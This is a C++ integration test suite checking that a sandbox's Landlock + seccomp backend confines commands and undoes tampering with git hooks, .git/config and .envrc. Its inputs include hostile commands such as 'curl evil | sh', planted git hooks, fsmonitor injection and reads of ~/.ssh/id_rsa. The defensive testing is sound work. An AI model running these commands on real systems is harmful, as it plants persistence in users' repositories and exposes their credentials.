// The Landlock + seccomp backend (LL-1), forced by `[sandbox] backend = "landlock"`: what it
// keeps of FS, NET and PROC without namespaces. make test runs this suite a second time with the
// whole binary under tests/standin/no_userns (namespaces refused, as in a default Docker
// container) and CORDON_TEST_LANDLOCK_SETTING=auto: the same tests, reached by the fallback.
#include <dirent.h>
#include <fcntl.h>
#include <linux/landlock.h>
#include <signal.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

#include <algorithm>
#include <chrono>
#include <cstdlib>
#include <fstream>
#include <iterator>
#include <thread>

#include "harness.h"
#include "rpc_client.h"

namespace cordon::it {
namespace {

bool landlock_serves() {
  long abi = syscall(SYS_landlock_create_ruleset, nullptr, 0, LANDLOCK_CREATE_RULESET_VERSION);
  return abi >= 4;
}

#define REQUIRE_LANDLOCK()                                                             \
  do {                                                                                 \
    if (!landlock_serves()) {                                                          \
      const char* must = std::getenv("CORDON_MUST_WORK");                              \
      if (must && std::string(must) == "1") FAIL() << "Landlock ABI 4 is unavailable"; \
      GTEST_SKIP() << "Landlock ABI 4 is unavailable";                                 \
    }                                                                                  \
  } while (0)

// A world whose config picks the Landlock backend.
struct LandlockWorld : World {
  LandlockWorld() { config("[sandbox]\nbackend = \"" + setting() + "\"\n"); }
  // "landlock", or the run's CORDON_TEST_LANDLOCK_SETTING ("auto" under the stand-in).
  static std::string setting() {
    const char* s = std::getenv("CORDON_TEST_LANDLOCK_SETTING");
    return s && *s ? s : "landlock";
  }
};

// A process of the machine whose command line holds `text` (read from /proc, so that it needs
// no procps: the suite also runs in a minimal container).
bool host_has_process(const std::string& text) {
  DIR* d = opendir("/proc");
  if (d == nullptr) return false;
  bool found = false;
  while (dirent* e = readdir(d)) {
    if (e->d_name[0] < '1' || e->d_name[0] > '9' || std::atoi(e->d_name) == getpid()) continue;
    std::ifstream in(std::string("/proc/") + e->d_name + "/cmdline");
    std::string cmdline((std::istreambuf_iterator<char>(in)), std::istreambuf_iterator<char>());
    std::replace(cmdline.begin(), cmdline.end(), '\0', ' ');
    if (cmdline.find(text) != std::string::npos) found = true;
  }
  closedir(d);
  return found;
}

TEST(LandlockBackend, WriteOutsideTheProjectFailsAndLeavesTheFile) {  // LL-1, FS-2
  REQUIRE_LANDLOCK();
  LandlockWorld w;
  w.write(w.home() + "/outside.txt", "original\n");
  Proc r = w.sh("echo changed > \"$HOME/outside.txt\"");
  EXPECT_NE(r.status, 0) << r.out << r.err;
  EXPECT_EQ(w.read(w.home() + "/outside.txt"), "original\n");
  r = w.sh("touch \"$HOME/new-file\"");
  EXPECT_NE(r.status, 0);
  EXPECT_FALSE(w.exists(w.home() + "/new-file"));
}

TEST(LandlockBackend, WritesInTheProjectWork) {  // LL-1, FS-2
  REQUIRE_LANDLOCK();
  LandlockWorld w;
  Proc r = w.sh(
      "echo made > made.txt && mkdir -p d/e && mv made.txt d/e/moved.txt && "
      "echo gone > x && rm x && cat d/e/moved.txt");
  EXPECT_EQ(r.status, 0) << r.err;
  EXPECT_EQ(r.out, "made\n");
  EXPECT_EQ(w.read("d/e/moved.txt"), "made\n");
}

TEST(LandlockBackend, HiddenKeyFailsToOpen) {  // LL-1, FS-4
  REQUIRE_LANDLOCK();
  LandlockWorld w;
  w.write(w.home() + "/.ssh/id_rsa", "SECRET-KEY\n", 0600);
  w.write(w.home() + "/visible.txt", "seen\n");
  Proc r = w.sh("cat \"$HOME/.ssh/id_rsa\"");
  EXPECT_NE(r.status, 0);
  EXPECT_EQ(r.out.find("SECRET-KEY"), std::string::npos);
  // Its siblings stay readable.
  r = w.sh("cat \"$HOME/visible.txt\" && cat README.md");
  EXPECT_EQ(r.status, 0) << r.err;
  EXPECT_EQ(r.out, "seen\nhello\n");
}

// FS-9: the devices commands read and write by name work; the machine's shared memory and
// terminals do not reach the command.
TEST(LandlockBackend, DevicesWorkAndSharedMemoryIsHidden) {  // LL-1, FS-9
  REQUIRE_LANDLOCK();
  LandlockWorld w;
  Proc r = w.sh(
      "head -c 4 /dev/urandom | wc -c; head -c 3 /dev/zero | wc -c; echo x > /dev/null "
      "&& echo null-ok");
  EXPECT_EQ(r.status, 0) << r.err;
  EXPECT_EQ(r.out, "4\n3\nnull-ok\n");
  r = w.sh("echo x > /dev/shm/cordon-ll-" + std::to_string(getpid()) + " && echo wrote-shm");
  EXPECT_EQ(r.out.find("wrote-shm"), std::string::npos);
}

TEST(LandlockBackend, TmpdirIsTheSessionsOwnAndWritable) {  // LL-1, FS-3
  REQUIRE_LANDLOCK();
  LandlockWorld w;
  Proc a = w.sh("echo in-tmp > \"$TMPDIR/f\" && cat \"$TMPDIR/f\" && echo \"$TMPDIR\"");
  ASSERT_EQ(a.status, 0) << a.err;
  EXPECT_EQ(a.out.rfind("in-tmp\n", 0), 0u) << a.out;
  const std::string tmpdir = a.out.substr(7, a.out.size() - 8);
  EXPECT_NE(tmpdir, "/tmp");
  // Another session gets another folder and cannot write in this one's, nor in /tmp.
  Proc b = w.sh("echo \"$TMPDIR\"; echo x > /tmp/cordon-ll-" + std::to_string(getpid()) +
                " && echo wrote-tmp");
  EXPECT_EQ(b.out.find("wrote-tmp"), std::string::npos) << b.out;
  EXPECT_NE(b.out.substr(0, b.out.find('\n')), tmpdir);
}

TEST(LandlockBackend, LoopbackConnectionsAreRefused) {  // LL-1, NET-1
  REQUIRE_LANDLOCK();
  LandlockWorld w;
  int port = 0;
  int fd = listen_on_host_loopback(port);
  ASSERT_GE(fd, 0);
  ASSERT_TRUE(host_connects(port));
  const std::string p = std::to_string(port);
  Proc r = w.py(
      "import socket\n"
      "try:\n"
      "  socket.create_connection(('127.0.0.1', " +
      p +
      "), timeout=5); print('connected')\n"
      "except OSError as e: print('refused', e.errno)\n");
  EXPECT_EQ(r.out.rfind("refused", 0), 0u) << r.out << r.err;
  if (access("/usr/bin/curl", X_OK) == 0) {
    r = w.sh("curl -sS --max-time 5 http://127.0.0.1:" + p + "/ && echo reached");
    EXPECT_NE(r.status, 0);
    EXPECT_EQ(r.out.find("reached"), std::string::npos);
  }
  // Nor can it listen.
  r = w.py("import socket\ns=socket.socket()\ns.bind(('127.0.0.1', 0))\nprint('bound')\n");
  EXPECT_EQ(r.out.find("bound"), std::string::npos) << r.out;
  close(fd);
}

TEST(LandlockBackend, UnixAndUdpSocketsAreRefused) {  // LL-1, NET-2
  REQUIRE_LANDLOCK();
  LandlockWorld w;
  Proc r = w.py(
      "import socket\n"
      "for fam, typ in ((socket.AF_UNIX, socket.SOCK_STREAM), (socket.AF_INET, "
      "socket.SOCK_DGRAM)):\n"
      "  try:\n"
      "    socket.socket(fam, typ); print('made')\n"
      "  except PermissionError: print('refused')\n"
      "a, b = socket.socketpair(); print('pair')\n");
  EXPECT_EQ(r.out, "refused\nrefused\npair\n") << r.err;
}

TEST(LandlockBackend, BackgroundProcessesEndWithTheCommand) {  // LL-1, PROC-1, PROC-3
  REQUIRE_LANDLOCK();
  LandlockWorld w;
  std::string tag = std::to_string(32000 + getpid() % 1000);
  Proc r = w.sh("sleep " + tag + "1 & setsid sleep " + tag + "2 & echo started");
  EXPECT_EQ(r.status, 0) << r.err;
  EXPECT_EQ(r.out, "started\n");
  EXPECT_FALSE(host_has_process("sleep " + tag + "1"));
  EXPECT_FALSE(host_has_process("sleep " + tag + "2"));
}

// PROC-3: a process that dropped cordon's mark cannot be told from another command's: it is
// not killed on a guess, and the result is withheld, naming it, until it is gone.
TEST(LandlockBackend, AnUnmarkedLeftoverIsNamedNotGuessed) {  // LL-1, PROC-3
  REQUIRE_LANDLOCK();
  LandlockWorld w;
  const std::string tag = std::to_string(33000 + getpid() % 1000) + "7";
  Proc r = w.sh("env -u CORDON_RUN setsid sleep " + tag +
                " </dev/null >/dev/null 2>&1 & "
                "sleep 0.2; echo started");
  EXPECT_EQ(r.status, 125) << r.out << r.err;
  EXPECT_NE(r.err.find("kill -9"), std::string::npos) << r.err;
  run_program({"/usr/bin/pkill", "-f", "sleep " + tag}, {{"PATH", "/usr/bin:/bin"}}, "/");
}

// The server runs its commands in the same backend, and says which.
TEST(LandlockBackend, ServeRunsItsCommandsUnderLandlock) {  // LL-1, FS-2, FS-4
  REQUIRE_LANDLOCK();
  LandlockWorld w;
  w.write(w.home() + "/.ssh/id_rsa", "PRIVATE KEY\n");
  RpcClient client({"serve"}, w.env, w.project());
  json init = client.call("initialize", {{"project", w.project()}});
  ASSERT_TRUE(init.contains("result")) << init.dump() << client.stderr_text();
  EXPECT_EQ(init["result"]["sandbox"]["backend"], "landlock");
  // Said at the session's start in this face too (LL-1).
  EXPECT_NE(init["result"]["notice"].dump().find("Landlock + seccomp"), std::string::npos)
      << init.dump();
  json r =
      client.call("exec", {{"command",
                            "cat ~/.ssh/id_rsa || echo hidden; "
                            "echo x > \"$HOME/outside.txt\" || echo refused; echo ok > in.txt"}});
  ASSERT_TRUE(r.contains("result")) << r.dump();
  EXPECT_EQ(r["result"]["stdout"], "hidden\nrefused\n");
  EXPECT_EQ(w.read("in.txt"), "ok\n");
  EXPECT_FALSE(w.exists(w.home() + "/outside.txt"));
}

TEST(LandlockBackend, PolicyNamesTheBackendAndWhatItGivesUp) {  // LL-1
  LandlockWorld w;
  Proc r = w.cordon({"policy"});
  EXPECT_EQ(r.status, 0) << r.err;
  EXPECT_NE(r.out.find("Landlock + seccomp"), std::string::npos) << r.out;
  EXPECT_NE(r.out.find("gives up"), std::string::npos);
  EXPECT_NE(r.out.find("a private process view"), std::string::npos);
  if (LandlockWorld::setting() == "auto") return;  // under the stand-in: the fallback's say
  World plain;  // "auto" keeps bubblewrap where it runs
  r = plain.cordon({"policy"});
  EXPECT_NE(r.out.find("bubblewrap (Linux)"), std::string::npos) << r.out;
  EXPECT_EQ(r.out.find("Landlock"), std::string::npos) << r.out;
}

TEST(LandlockBackend, EnvironmentIsStripped) {  // LL-1, ENV-1
  REQUIRE_LANDLOCK();
  LandlockWorld w;
  w.env["OPENAI_API_KEY"] = "sk-secret";
  Proc r = w.sh("echo \"key=${OPENAI_API_KEY:-none} sandbox=$CORDON_SANDBOX\"");
  EXPECT_EQ(r.status, 0) << r.err;
  EXPECT_EQ(r.out, "key=none sandbox=1\n");
}

// Issue 31: Landlock cannot keep .git/hooks and .git/config read-only while git writes beside
// them; aftercare keeps their bytes and puts them back, and moves a planted hook aside.
TEST(LandlockBackend, PlantedGitHookAndConfigAreCaught) {  // LL-1, GIT-1, GIT-9
  REQUIRE_LANDLOCK();
  LandlockWorld w;
  const std::string config = w.read(".git/config");
  Proc r = w.sh(
      "printf '#!/bin/sh\\necho pwned\\n' > .git/hooks/pre-commit; "
      "printf '[core]\\n\\tfsmonitor = /bin/false\\n' >> .git/config");
  EXPECT_EQ(r.status, 0) << r.err;
  EXPECT_FALSE(w.exists(".git/hooks/pre-commit"));
  EXPECT_EQ(w.read(".git/config"), config);
}

// What the user's own git sees outside, after the command: the original config, and a commit
// that runs no planted hook (the hook would leave `ran` beside the project).
void expect_users_git_untouched(const LandlockWorld& w, const std::string& config) {
  EXPECT_EQ(w.read(".git/config"), config);
  Proc list = w.host({"git", "config", "--list", "--local"});
  EXPECT_EQ(list.status, 0) << list.err;
  EXPECT_EQ(list.out.find("fsmonitor"), std::string::npos) << list.out;
  EXPECT_EQ(list.out.find("hookspath"), std::string::npos) << list.out;
  Proc status = w.host({"git", "status", "--porcelain"});
  EXPECT_EQ(status.status, 0) << status.err;
  Proc commit = w.host({"git", "commit", "-q", "--allow-empty", "-m", "by the user"});
  EXPECT_EQ(commit.status, 0) << commit.err;
  EXPECT_FALSE(w.exists(w.root() + "/ran")) << "a planted hook ran on the user's commit";
}

std::string planted_hook(const LandlockWorld& w) {
  return "#!/bin/sh\\ntouch " + w.root() + "/ran\\n";
}

// The result names each move (PROT-7): what moved, and where to.
bool says_moved(const Proc& r, const std::string& what) {
  return r.err.find(what) != std::string::npos &&
         r.err.find(".cordon-quarantined-") != std::string::npos;
}

TEST(LandlockBackend, AppendToGitConfigIsMovedAsideAndPutBack) {  // LL-1, GIT-1, PROT-7
  REQUIRE_LANDLOCK();
  LandlockWorld w;
  const std::string config = w.read(".git/config");
  Proc r = w.sh(
      "printf '[core]\\n\\tfsmonitor = \"touch " + w.root() +
      "/ran\"\\n' >> .git/config && git config --local --list");
  EXPECT_EQ(r.status, 0) << r.err;
  EXPECT_NE(r.out.find("core.fsmonitor"), std::string::npos);  // the command saw its change
  EXPECT_TRUE(says_moved(r, ".git/config")) << r.err;
  EXPECT_NE(r.err.find("put yours back"), std::string::npos) << r.err;
  // The command's version is kept beside it, never deleted.
  Proc found = w.host({"/bin/sh", "-c", "cat .git/config.cordon-quarantined-*"});
  EXPECT_NE(found.out.find("fsmonitor"), std::string::npos) << found.out;
  expect_users_git_untouched(w, config);
}

TEST(LandlockBackend, PlantedPreCommitHookIsMovedAsideAndNeverRuns) {  // LL-1, GIT-1, PROT-7
  REQUIRE_LANDLOCK();
  LandlockWorld w;
  const std::string config = w.read(".git/config");
  Proc r = w.sh("printf '" + planted_hook(w) +
                "' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit");
  EXPECT_EQ(r.status, 0) << r.err;
  EXPECT_FALSE(w.exists(".git/hooks/pre-commit"));
  EXPECT_TRUE(says_moved(r, ".git/hooks/pre-commit")) << r.err;
  expect_users_git_untouched(w, config);
}

TEST(LandlockBackend, TruncatedAndRewrittenHookIsPutBack) {  // LL-1, GIT-1, PROT-7
  REQUIRE_LANDLOCK();
  LandlockWorld w;
  const std::string mine = "#!/bin/sh\necho own hook\n";
  w.write(".git/hooks/pre-commit", mine, 0755);
  const std::string config = w.read(".git/config");
  // O_TRUNC keeps the inode: only the bytes tell.
  Proc r = w.py("import os\nfd = os.open('.git/hooks/pre-commit', os.O_WRONLY | os.O_TRUNC)\n"
                "os.write(fd, b'" + planted_hook(w) + "')\nos.close(fd)\n");
  EXPECT_EQ(r.status, 0) << r.err;
  EXPECT_EQ(w.read(".git/hooks/pre-commit"), mine);
  struct stat st;
  ASSERT_EQ(stat(w.abs(".git/hooks/pre-commit").c_str(), &st), 0);
  EXPECT_EQ(st.st_mode & 0777, 0755u);
  EXPECT_TRUE(says_moved(r, ".git/hooks/pre-commit")) << r.err;
  expect_users_git_untouched(w, config);
}

TEST(LandlockBackend, RenamedHooksFolderWithAPlantedHookIsPutBack) {  // LL-1, GIT-1, GIT-9
  REQUIRE_LANDLOCK();
  LandlockWorld w;
  const std::string mine = "#!/bin/sh\nexit 0\n";
  w.write(".git/hooks/pre-push", mine, 0755);
  const std::string config = w.read(".git/config");
  // Renamed within .git, and carried out of it: both are put back.
  for (const char* away : {".git/old-hooks", "carried-hooks"}) {
    Proc r = w.sh(std::string("mv .git/hooks ") + away + " && mkdir .git/hooks && printf '" + planted_hook(w) +
                  "' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit");
    EXPECT_EQ(r.status, 0) << r.err;
    EXPECT_FALSE(w.exists(".git/hooks/pre-commit")) << away;
    EXPECT_EQ(w.read(".git/hooks/pre-push"), mine) << away;
    EXPECT_TRUE(says_moved(r, ".git/hooks")) << r.err;
    expect_users_git_untouched(w, config);
  }
}

TEST(LandlockBackend, RenamedGitFolderIsPutBack) {  // LL-1, GIT-1, GIT-9
  REQUIRE_LANDLOCK();
  LandlockWorld w;
  const std::string config = w.read(".git/config");
  Proc r = w.sh("mv .git .git-away && cp -a .git-away .git && printf '" + planted_hook(w) +
                "' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit && "
                "printf '[core]\\n\\thooksPath = /tmp\\n' >> .git/config");
  EXPECT_EQ(r.status, 0) << r.err;
  EXPECT_FALSE(w.exists(".git-away"));  // the user's .git is back in its place
  EXPECT_FALSE(w.exists(".git/hooks/pre-commit"));
  EXPECT_TRUE(says_moved(r, ".git")) << r.err;
  expect_users_git_untouched(w, config);
}

TEST(LandlockBackend, ConfigChangedThroughAHardLinkIsPutBack) {  // LL-1, GIT-1, GIT-9
  REQUIRE_LANDLOCK();
  LandlockWorld w;
  w.write(w.home() + "/outside.txt", "outside\n");
  const std::string config = w.read(".git/config");
  Proc r = w.sh("ln .git/config linked-config && printf '[core]\\n\\tfsmonitor = x\\n' >> "
                "linked-config");
  EXPECT_EQ(r.status, 0) << r.err;
  // Put back as a new file: the link the command holds is not the config any more.
  struct stat config_st, link_st;
  ASSERT_EQ(lstat(w.abs(".git/config").c_str(), &config_st), 0);
  ASSERT_EQ(lstat(w.abs("linked-config").c_str(), &link_st), 0);
  EXPECT_NE(config_st.st_ino, link_st.st_ino);
  EXPECT_EQ(config_st.st_nlink, 1u);
  EXPECT_TRUE(says_moved(r, ".git/config")) << r.err;
  EXPECT_EQ(w.read(w.home() + "/outside.txt"), "outside\n");
  expect_users_git_untouched(w, config);
}

TEST(LandlockBackend, ConfigReplacedByALinkOutsideIsPutBack) {  // LL-1, GIT-1, GIT-6, FS-2
  REQUIRE_LANDLOCK();
  LandlockWorld w;
  w.write(w.home() + "/outside.txt", "outside\n");
  const std::string config = w.read(".git/config");
  // To a file outside that exists, and to one that does not: neither is written by cordon.
  for (const std::string& target : {w.home() + "/outside.txt", w.home() + "/not-made"}) {
    Proc r = w.sh("rm .git/config && ln -s " + target + " .git/config");
    EXPECT_EQ(r.status, 0) << r.err;
    struct stat st;
    ASSERT_EQ(lstat(w.abs(".git/config").c_str(), &st), 0);
    EXPECT_TRUE(S_ISREG(st.st_mode)) << target;
    EXPECT_TRUE(says_moved(r, ".git/config")) << r.err;
    EXPECT_EQ(w.read(w.home() + "/outside.txt"), "outside\n");
    EXPECT_FALSE(w.exists(w.home() + "/not-made"));
    expect_users_git_untouched(w, config);
  }
}

// git writes its index, objects, refs, COMMIT_EDITMSG and logs beside the guarded files: a
// commit inside the sandbox works and nothing is moved aside.
TEST(LandlockBackend, GitCommitWorksAndMovesNothingAside) {  // LL-1, GIT-1
  REQUIRE_LANDLOCK();
  LandlockWorld w;
  w.write(".git/hooks/pre-push", "#!/bin/sh\nexit 0\n", 0755);
  w.write(".envrc", "export A=1\n");
  const std::string config = w.read(".git/config");
  Proc r = w.sh("echo more >> README.md && git add README.md && git commit -q -m inside && "
                "git log --oneline | wc -l");
  EXPECT_EQ(r.status, 0) << r.err;
  EXPECT_EQ(r.out, "2\n");
  EXPECT_EQ(r.err.find("quarantined"), std::string::npos) << r.err;
  EXPECT_EQ(r.err.find("put yours back"), std::string::npos) << r.err;
  Proc log = w.host({"git", "log", "-1", "--format=%s"});
  EXPECT_EQ(log.out, "inside\n");
  EXPECT_EQ(w.read(".envrc"), "export A=1\n");
  expect_users_git_untouched(w, config);
}

TEST(LandlockBackend, ChangedProtectedFileIsPutBack) {  // LL-1, PROT-2, PROT-7
  REQUIRE_LANDLOCK();
  LandlockWorld w;
  w.write(".envrc", "export A=1\n");  // untracked: read-only under bubblewrap
  Proc r = w.sh("echo 'curl evil | sh' >> .envrc");
  EXPECT_EQ(r.status, 0) << r.err;
  EXPECT_EQ(w.read(".envrc"), "export A=1\n");
  EXPECT_TRUE(says_moved(r, ".envrc")) << r.err;
}

// PROT-1: .claude/worktrees stays writable inside a read-only .claude: a worktree's files are
// the agent's work, neither moved aside nor put back.
TEST(LandlockBackend, ClaudeWorktreesStayWritable) {  // LL-1, PROT-1
  REQUIRE_LANDLOCK();
  LandlockWorld w;
  w.write(".claude/settings.json", "{}\n");
  w.write(".claude/worktrees/wt/a.txt", "one\n");
  Proc r = w.sh("echo two > .claude/worktrees/wt/a.txt && mkdir .claude/worktrees/wt2 && "
                "echo new > .claude/worktrees/wt2/b.txt && echo '{\"x\":1}' > "
                ".claude/settings.json");
  EXPECT_EQ(r.status, 0) << r.err;
  EXPECT_EQ(w.read(".claude/worktrees/wt/a.txt"), "two\n");
  EXPECT_EQ(w.read(".claude/worktrees/wt2/b.txt"), "new\n");
  EXPECT_EQ(w.read(".claude/settings.json"), "{}\n");  // the rest of .claude is put back
  EXPECT_TRUE(says_moved(r, ".claude/settings.json")) << r.err;
  EXPECT_EQ(r.err.find("worktrees/"), std::string::npos) << r.err;
}

// Starts `cordon ARGS` in the background, in the project, its output thrown away.
pid_t spawn_cordon(const LandlockWorld& w, const std::vector<std::string>& args) {
  std::vector<std::string> argv = {cordon_binary()};
  argv.insert(argv.end(), args.begin(), args.end());
  std::vector<std::string> envs;
  for (const auto& [k, v] : w.env) envs.push_back(k + "=" + v);
  pid_t pid = fork();
  if (pid != 0) return pid;
  std::vector<char*> a, e;
  for (auto& x : argv) a.push_back(x.data());
  a.push_back(nullptr);
  for (auto& x : envs) e.push_back(x.data());
  e.push_back(nullptr);
  if (chdir(w.project().c_str()) != 0) _exit(121);
  int devnull = open("/dev/null", O_RDWR);
  dup2(devnull, 0);
  dup2(devnull, 1);
  dup2(devnull, 2);
  execve(a[0], a.data(), e.data());
  _exit(122);
}

bool wait_until(const std::function<bool()>& cond) {
  for (int i = 0; i < 500 && !cond(); ++i)
    std::this_thread::sleep_for(std::chrono::milliseconds(20));
  return cond();
}

// The bytes are kept in the leftover record: a command whose cordon was killed has its changes
// put back by the next command's sweep.
TEST(LandlockBackend, AKilledCommandsChangeIsPutBackByTheSweep) {  // LL-1, GIT-1, SES-3
  REQUIRE_LANDLOCK();
  LandlockWorld w;
  const std::string config = w.read(".git/config");
  pid_t pid = spawn_cordon(
      w, {"run", "--", "/bin/sh", "-c",
          "printf '[core]\\n\\tfsmonitor = x\\n' >> .git/config; touch started; "
          "while [ ! -e go ]; do sleep 0.0331; done; touch ended"});
  ASSERT_TRUE(wait_until([&] { return w.exists("started"); }));
  kill(pid, SIGKILL);
  waitpid(pid, nullptr, 0);
  EXPECT_NE(w.read(".git/config"), config);
  w.write("go", "");  // the command ends by itself
  ASSERT_TRUE(wait_until([&] { return w.exists("ended"); }));
  std::this_thread::sleep_for(std::chrono::milliseconds(300));
  Proc r = w.sh("true");
  EXPECT_EQ(r.status, 0) << r.err;
  EXPECT_TRUE(says_moved(r, ".git/config")) << r.err;
  expect_users_git_untouched(w, config);
}

}  // namespace
}  // namespace cordon::it
